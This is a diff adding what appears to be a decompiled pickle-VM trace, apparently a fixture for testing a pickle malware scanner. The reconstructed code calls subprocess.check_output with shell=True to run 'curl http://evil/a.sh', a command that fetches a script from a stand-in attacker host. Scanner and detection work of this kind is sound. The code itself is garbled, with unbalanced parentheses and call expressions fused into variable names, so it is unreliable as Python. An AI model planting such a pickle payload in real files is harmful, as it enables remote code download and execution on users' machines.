@@ -0,0 +1,35 @@
+## VM stack start, len 1
+## VM[0] TOP
+str_xe = "subprocess"
+str_x1b = "check_output"
+g_x2a = _find_class(str_xe, str_x1b, proto=4))
+str_x2c = "builtins"
+str_x37 = "getattr"
+g_getattr_x41 = _find_class(str_x2c, str_x37, proto=4))
+str_x43 = "builtins"
+str_x4e = "str"
+g_str_x54 = _find_class(str_x43, str_x4e, proto=4))
+str_x56 = "join"
+tup_x5d = (g_str_x54, str_x56)
+ret_x5f = g_getattr_x41tup_x5d
+str_x61 = " "
+str_x68 = "curl"
+str_x6f = "http://evil/a.sh"
+lst_x65 = [str_x68, str_x6f]
+tup_x83 = (str_x61, lst_x65)
+ret_x85 = ret_x5ftup_x83
+str_x8a = "shell"
+str_x93 = "x"
+str_x97 = "curl http://evil"
+dict_x87 = {str_x8a: True, str_x93: str_x97}
+tup_xab = (ret_x85, dict_x87)
+ret_xad = g_x2atup_xab
+str_xaf = "curl outside"
+str_xc0 = "k"
+str_xc4 = "curl in dict"
+dict_xbe = {str_xc0: str_xc4}
+return [
+	ret_xad, 
+	str_xaf, 
+	dict_xbe
+]